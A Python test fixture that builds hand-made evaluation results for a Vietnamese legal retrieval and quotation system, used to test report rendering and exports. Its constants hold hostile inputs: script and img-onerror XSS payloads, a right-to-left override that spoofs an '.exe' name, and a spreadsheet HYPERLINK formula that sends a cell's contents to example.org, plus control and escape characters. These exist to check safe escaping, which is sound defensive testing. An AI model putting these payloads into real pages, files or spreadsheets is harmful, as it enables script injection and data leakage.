"""Results written by hand for the tests of report and exports: realistic, and with hostile texts."""

from dataclasses import replace

from evaluation.result import Cost, Provenance, Result, Row, Source, SystemResult
from evaluation.statistics import Part, estimates

SCRIPT = "<script>alert('xin chào')</script>"
IMAGE = '<img src=x onerror="alert(1)">'
OVERRIDE = "\u202etxt.exe\u202c Nghị quyết"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Bấm vào đây")'
WASTE = (
    "Tuyên truyền, vận động, hướng dẫn người dân thu gom, phân loại, đổ rác đúng nơi quy định. Khẩn trương "
    "hoàn thành các thủ tục để khởi công xây dựng Nhà máy xử lý rác và phát điện Bắc Giang và Nhà máy xử lý "
    "rác thải xã Đông Lỗ, huyện Hiệp Hoà."
)
HEALTH = (
    "Tăng cường công tác quản lý nhà nước về an toàn vệ sinh thực phẩm, phòng chống các dịch bệnh; bảo đảm "
    "kiểm soát hiệu quả, bền vững các loại dịch bệnh, góp phần nâng cao sức khỏe Nhân dân."
)
LONG = (
    "Đoạn rất dài. " * 180 + "Chỗ cần trích nằm ở đây. " + "Phần còn lại của đoạn. " * 110
)  # 5,000 characters
DOCUMENT = "Nghị quyết về nhiệm vụ phát triển kinh tế - xã hội 6 tháng cuối năm 2024 tỉnh Bắc Giang"


def source(
    passage: str, text: str, location: str = "Điều 2, khoản 4, đoạn 2", document: str = DOCUMENT
) -> Source:
    start = passage.index(text)
    return Source(document, location, text, passage, start, start + len(text))


GOLD = source(WASTE, "Khẩn trương hoàn thành các thủ tục để khởi công")
ELSEWHERE = source(HEALTH, "phòng chống các dịch bệnh", "Điều 2, khoản 5")

RIGHT: dict[str, Part] = {
    "first_citation": (1, 1),
    "facts": (1, 1),
    "fact_recall": (2, 2),
    "citation_precision": (1, 1),
    "over_quotation": (20, 120),
    "quotes_exact": (1, 1),
    "wrongly_refused": (0, 1),
    "refusal_precision": (0, 0),
    "characters": (120, 1),
}
WRONG_PLACE = RIGHT | {"first_citation": (0.0, 1.0), "facts": (0.0, 1.0), "fact_recall": (0.0, 2.0)}
NO_FACTS = RIGHT | {"facts": (0.0, 1.0), "fact_recall": (1.0, 2.0)}
ALTERED = RIGHT | {"quotes_exact": (0.0, 1.0)}
REFUSED: dict[str, Part] = {
    "first_citation": (0, 1),
    "facts": (0, 1),
    "fact_recall": (0, 2),
    "wrongly_refused": (1, 1),
    "refusal_precision": (0, 1),
}
RIGHTLY_REFUSED: dict[str, Part] = {"refusal_recall": (1, 1), "refusal_precision": (1, 1)}
ANSWERED_ANYWAY: dict[str, Part] = {"refusal_recall": (0, 1), "quotes_exact": (1, 1)}

KINDS = ("task", "fact", "colloq", "nodia")


def row(name: str, parts: dict[str, Part], question: str = "", **values: object) -> Row:
    at = sum(map(ord, name))
    kind = KINDS[at % 4] if values.get("answerable", True) else "unanswerable"
    given: dict[str, object] = {
        "slices": {"kind": kind, "language": "vi", "length": "medium" if at % 3 else "short"},
        "took_ms": 20.0 + (at * 7919 % 97),
        "cited": (GOLD,),
        "gold": (GOLD,),
        "answer": f"“{GOLD.text}” [1]",
        "contexts": (WASTE, HEALTH),
    } | values
    return Row(id=name, question=question or f"Xử lý rác thải phải làm gì ({name})?", parts=parts, **given)  # type: ignore[arg-type]


def mistakes() -> tuple[Row, ...]:
    """One of each kind of mistake, the mildest first, with the hostile texts."""
    refusal = {"refused": True, "cited": (), "answer": "Các văn bản hiện có không nêu nội dung này."}
    unanswerable = {"answerable": False, "gold": ()}
    long = source(LONG, "Chỗ cần trích nằm ở đây.", "Điều 9")
    return (
        row("h-facts", NO_FACTS, "Nhà máy nào?\nDòng thứ hai của câu hỏi", gold=(long,), cited=(long,)),
        row("h-refused", REFUSED, FORMULA, **refusal),
        row("h-place", WRONG_PLACE, SCRIPT, cited=(ELSEWHERE,), answer=IMAGE, understood_as="xử lý rác"),
        row("h-anyway", ANSWERED_ANYWAY, f"{OVERRIDE} mức phí \x00\x1b[31m là bao nhiêu?", **unanswerable),
        row("h-altered", ALTERED, IMAGE, cited=(Source(IMAGE, SCRIPT, "không có", WASTE, 3, 11),)),
    )


def answers(count: int = 80) -> Result:
    """Two systems over the same questions; the second is quicker and worse."""
    refusal = {"refused": True, "cited": (), "answer": "Các văn bản hiện có không nêu nội dung này."}
    right = tuple(row(f"q{at:03}", RIGHT) for at in range(count))
    rightly = tuple(
        row(f"u{at:03}", RIGHTLY_REFUSED, "Thu phí bao nhiêu?", answerable=False, gold=(), **refusal)
        for at in range(count // 4)
    )
    product = (*right, *rightly, *mistakes())
    lexical = tuple(_quicker_and_worse(item) if at % 3 == 0 else item for at, item in enumerate(product))
    return Result(
        "resolution.tuning.jsonl",
        provenance(),
        (
            system(
                "Trợ lý", "Sản phẩm: truy hồi kết hợp, trích nguyên văn", product, Cost(58, 97, 115, 612, 9.4)
            ),
            system("BM25", "Chỉ tìm theo từ", lexical, Cost(6.4, 10.8, 12.7, 188, 1.2)),
        ),
        ("Chạy trên máy đang bận: thời gian chỉ để tham khảo.",),
    )


def _quicker_and_worse(item: Row) -> Row:
    parts = WRONG_PLACE | {"over_quotation": (100, 120)} if item.answerable else ANSWERED_ANYWAY
    return replace(item, parts=parts, refused=False, cited=(ELSEWHERE,), took_ms=item.took_ms / 9)


def retrieval(count: int = 60) -> Result:
    """Two rankers; ids are those of a dataset."""

    def ranked(at: int, rank: int | None) -> Row:
        ranking = [f"luat-{at}-{place}" for place in range(1, 11)]
        if rank is not None and rank <= len(ranking):
            ranking[rank - 1] = f"luat-{at}-gold"
        gain = 0.0 if rank is None or rank > 10 else 1 / (1 + (rank - 1) * 0.6)
        parts: dict[str, Part] = {
            "nDCG@10": (gain, 1),
            "RR": (0 if rank is None else 1 / rank, 1),
            "Success@1": (rank == 1, 1),
        }
        gold = (Source(f"luat-{at}-gold", "", HEALTH, HEALTH, 0, len(HEALTH)),)
        first = (Source(ranking[0], "", WASTE, WASTE, 0, len(WASTE)),)
        took = 3.0 + at % 11
        return row(
            f"r{at:03}", parts, ranking=tuple(ranking), gold=gold, cited=first, answer="", took_ms=took
        )

    ranks = (1, 1, 1, 2, 1, 3, 7, None, 1, 15)
    mine = tuple(ranked(at, ranks[at % 10]) for at in range(count))
    other = tuple(ranked(at, ranks[(at * 3) % 10] if at % 2 else None) for at in range(count))
    return Result(
        "alqac2025",
        provenance(),
        (
            system("hybrid", "Từ và nghĩa, trộn hạng", mine, Cost(7, 11, 13, 590, 24)),
            system("dense", "Chỉ theo nghĩa", other, Cost(5, 9, 10, 540, None)),
        ),
    )


def empty() -> Result:
    return Result("rỗng.jsonl", provenance(), (SystemResult("Trợ lý", "", {}, Cost(0, 0, 0, 0), ()),))


def system(name: str, description: str, rows: tuple[Row, ...], cost: Cost) -> SystemResult:
    groups: dict[str, list[Row]] = {"all": list(rows)}
    for item in rows:
        for dimension, value in item.slices.items():
            groups.setdefault(f"{dimension}={value}", []).append(item)
    measures = {}
    for group, members in groups.items():
        names = sorted({measure for item in members for measure in item.parts})
        measures[group] = estimates(
            {
                measure: [item.parts[measure] for item in members if measure in item.parts]
                for measure in names
            },
            7,
        )
    return SystemResult(name, description, measures, cost, rows)


def provenance() -> Provenance:
    return Provenance(
        command="python -m evaluation answers resolution.tuning.jsonl --system product,bm25 --out report",
        created_at="2026-11-25T18:48:28+07:00",
        seed=7,
        resamples=2000,
        versions={"python": "3.11.9", "trợ lý": "0.1.0", "torch": "2.13.0"},
        machine="2 lõi, 4 GB, không GPU",
        settings={"embedding_model": "built-in", "k": "20"},
        hashes={"questions": "ab" * 32, "documents": "cd" * 32, "program": "ef" * 32},
    )
